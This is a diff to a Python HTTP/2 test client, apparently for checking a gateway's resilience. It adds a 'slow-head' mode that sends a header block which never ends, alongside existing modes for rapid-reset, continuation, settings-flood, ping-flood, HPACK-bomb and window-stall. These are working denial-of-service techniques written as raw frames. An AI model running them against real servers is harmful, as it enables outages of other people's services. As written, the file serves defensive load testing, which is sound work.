@@ -6,7 +6,7 @@ requests on one connection, or raw frames as an attacker sends them.
                                         stream at once; prints JSON lines
   h2client.py ATTACK HOST PORT          rapid-reset, continuation,
                                         settings-flood, ping-flood,
-                                        hpack-bomb, stall; prints what
+                                        hpack-bomb, stall, slow-head; prints what
                                         came back
 The credential header is "authorization: Bearer $API_TOKEN"."""
 import json
@@ -199,16 +199,18 @@ def hpack_bomb(host, port):
     t.close()
 
 
-def stall(host, port):
+def stall(host, port, head=False):
     """A window that never opens: SETTINGS_INITIAL_WINDOW_SIZE 0, a large
-    response asked for, PINGs but never a WINDOW_UPDATE.  Prints how long
-    the gateway kept the connection."""
+    response asked for, PINGs but never a WINDOW_UPDATE; or (@head) a
+    header block that never ends (HEADERS without END_HEADERS).  Prints
+    how long the gateway kept the connection."""
     t = connect(host, port)
     enc = hpack.Encoder()
     t0 = time.time()
     t.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
               frame(4, 0, 0, struct.pack(">HI", 4, 0)) +
-              frame(1, 0x5, 1, enc.encode(req_headers(host, port, "/bytes/300000"))))
+              frame(1, 0x1 if head else 0x5, 1,
+                    enc.encode(req_headers(host, port, "/bytes/300000"))))
     t.settimeout(0.5)
     got = b""
     while time.time() - t0 < 60:
@@ -253,6 +255,8 @@ if __name__ == "__main__":
         hpack_bomb(host, port)
     elif mode == "stall":
         stall(host, port)
+    elif mode == "slow-head":
+        stall(host, port, head=True)
     else:
         attack(mode, host, port)
     # the gateway is still there for a new connection
